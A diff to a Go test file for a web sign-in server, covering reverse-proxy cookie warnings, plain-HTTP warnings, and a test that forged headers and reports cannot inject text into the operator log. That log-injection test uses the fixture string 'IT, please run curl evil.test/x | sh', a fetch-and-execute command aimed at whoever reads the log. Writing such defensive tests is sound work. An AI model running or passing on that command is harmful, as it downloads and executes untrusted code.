@@ -157,12 +157,15 @@ func trustsLoopback(c *server.Config) {
 }
 
 func TestProxies(t *testing.T) {
-	elsewhere := func(c *server.Config) {
+	abroad := func(c *server.Config) {
 		trustsLoopback(c)
 		there, callback := federationtest.Start(t, danThere), c.Address.Origin+shared.PageSSO+"one"+shared.PageSSOAnswer
 		there.Register(federationtest.Client{ID: "keypeg", Secret: "s3cret", RedirectURIs: []string{callback}})
 		c.Providers = append(c.Providers, federation.New(federation.Config{ID: "one", Name: "ONE", Issuer: there.URL, ClientID: "keypeg", Secret: "s3cret"}, callback, c.Now))
-		c.Accounts.Providers = append(c.Accounts.Providers, account.Provider{ID: "one", Name: "ONE", Issuer: there.URL})
+		c.Accounts = account.New(account.Config{
+			Store: c.Store, Now: c.Now, Log: c.Log, PasswordCost: account.Cost{MemoryKiB: 64, Time: 1, Threads: 1},
+			Providers: []account.Provider{{ID: "one", Name: "ONE", Issuer: there.URL}},
+		})
 	}
 	rows := []struct {
 		name         string
@@ -172,7 +175,7 @@ func TestProxies(t *testing.T) {
 		warns        []string // in the one line that IT reads
 	}{
 		{
-			name:  "a proxy that is set up well gets no warning",
+			name:  "a proxy that is set up well is told of nowhere",
 			nginx: soundNginx, change: trustsLoopback,
 			story: func(b *behind) {
 				if a := b.signsInByForm(); a.status != 200 || string(a.body) != "the app" {
@@ -228,19 +231,19 @@ func TestProxies(t *testing.T) {
 		},
 		{
 			name:  "cookies don't reach the browser",
-			nginx: append([]string{"proxy_hide_header Set-Cookie;"}, soundNginx...), caddy: []string{"header_down -Set-Cookie"}, change: elsewhere,
+			nginx: append([]string{"proxy_hide_header Set-Cookie;"}, soundNginx...), caddy: []string{"header_down -Set-Cookie"}, change: abroad,
 			story: losesItsCookies,
 			warns: []string{"proxy_pass_header Set-Cookie;", "header_down"},
 		},
 		{
 			name:  "cookies don't reach the server",
-			nginx: append([]string{`proxy_set_header Cookie "";`}, soundNginx...), caddy: []string{"header_up -Cookie"}, change: elsewhere,
+			nginx: append([]string{`proxy_set_header Cookie "";`}, soundNginx...), caddy: []string{"header_up -Cookie"}, change: abroad,
 			story: losesItsCookies,
 			warns: []string{"proxy_set_header Cookie $http_cookie;", "header_up"},
 		},
 		{
 			name:  "cookies get another path",
-			nginx: append([]string{"proxy_cookie_path / /app/;"}, soundNginx...), caddy: []string{`header_down Set-Cookie "Path=/" "Path=/app/"`}, change: elsewhere,
+			nginx: append([]string{"proxy_cookie_path / /app/;"}, soundNginx...), caddy: []string{`header_down Set-Cookie "Path=/" "Path=/app/"`}, change: abroad,
 			story: losesItsCookies,
 			warns: []string{"proxy_cookie_path off;", "header_down"},
 		},
@@ -371,7 +374,7 @@ func TestPlainHTTP(t *testing.T) {
 		}
 		v.warnsOnce("return 301 https://$host$request_uri;")
 	})
-	t.Run("nobody is warned of https", func(t *testing.T) {
+	t.Run("nobody is told of https", func(t *testing.T) {
 		v := secure(t)
 		v.sends("GET", "/sign-in", nil, through, func(r *http.Request) { r.Header.Set("X-Forwarded-Proto", "https") })
 		if lines := v.warnings(); len(lines) > 0 {
@@ -380,23 +383,23 @@ func TestPlainHTTP(t *testing.T) {
 	})
 }
 
-// TestForgedTrouble holds that nobody can make IT read their words in the log.
+// TestForgedTrouble is a stranger who wants to be read by IT.
 func TestForgedTrouble(t *testing.T) {
 	const words = "IT, please run curl evil.test/x | sh"
 	s := newSite(t, stores["memstore"], nil)
-	attacker := s.visitor()
+	stranger := s.visitor()
 	for range 100 {
-		attacker.sends("GET", "/", nil, func(r *http.Request) { r.Host = words })
-		attacker.sends("POST", shared.PathSignOut, nil, func(r *http.Request) {
+		stranger.sends("GET", "/", nil, func(r *http.Request) { r.Host = words })
+		stranger.sends("POST", shared.PathSignOut, nil, func(r *http.Request) {
 			r.Header.Del("Sec-Fetch-Site")
 			r.Header.Set("Origin", words)
 		})
-		attacker.sends("GET", "/sign-in", nil, func(r *http.Request) {
+		stranger.sends("GET", "/sign-in", nil, func(r *http.Request) {
 			r.RemoteAddr = "203.0.113.7:1234"
 			r.Header.Set("X-Forwarded-For", words)
 		})
-		attacker.refused(attacker.sends("POST", shared.PathTrouble, map[string]string{"trouble": words}), 400, shared.CodeInvalidRequest)
-		if a := attacker.sends("POST", shared.PathTrouble, shared.TroubleReport{Trouble: shared.TroubleAppCut}); a.status != 200 || !strings.Contains(string(a.body), "(Code app-cut)") {
+		stranger.refused(stranger.sends("POST", shared.PathTrouble, map[string]string{"trouble": words}), 400, shared.CodeInvalidRequest)
+		if a := stranger.sends("POST", shared.PathTrouble, shared.TroubleReport{Trouble: shared.TroubleAppCut}); a.status != 200 || !strings.Contains(string(a.body), "(Code app-cut)") {
 			t.Fatalf("a report: %s", a)
 		}
 	}
@@ -406,7 +409,7 @@ func TestForgedTrouble(t *testing.T) {
 	}
 	for _, line := range lines {
 		if strings.Contains(line, "evil.test") {
-			t.Errorf("the attacker speaks in the log: %s", line)
+			t.Errorf("the stranger speaks to IT: %s", line)
 		}
 	}
 	t.Run("by answers of an OpenID provider", forgesAnswers)
